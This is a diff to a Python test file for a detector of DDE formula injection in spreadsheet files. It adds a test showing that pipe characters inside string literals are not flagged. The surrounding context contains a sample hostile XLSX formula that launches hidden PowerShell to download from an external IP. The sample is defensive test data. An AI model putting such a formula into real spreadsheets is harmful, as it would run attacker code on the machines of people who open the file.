@@ -172,3 +172,11 @@ def test_sylk_cell_formula_running_a_program_is_dde():
 def test_dde_formula_typed_into_an_xlsx_cell_is_flagged():
     sheet = '<sheetData><row r="1"><c r="A1"><f>cmd|\'/c powershell -w hidden iwr http://198.51.100.2/a\'!A1</f></c></row></sheetData>'
     assert symbols_of(office_findings(DETECTOR, [("a.xlsx", xlsx(sheet_xml=sheet))])) == {"OFFICE_DDE"}
+
+
+def test_pipe_inside_a_string_literal_is_not_dde():
+    sheet = ('<sheetData><row r="1"><c r="A1"><f>IF(B1="in|out",Sheet2!C1,"")</f></c>'
+             '<c r="A2"><f>B1&amp;"|"&amp;Sheet2!D1</f></c></row></sheetData>')
+    assert office_findings(DETECTOR, [("a.xlsx", xlsx(sheet_xml=sheet))]) == []
+    csv = b'id,formula,note\r\n1,"=IF(A1=""a|b"",Data!B2,0)",x\r\n2,plain|text!,y\r\n'
+    assert office_findings(DETECTOR, [("a.csv", csv)]) == []
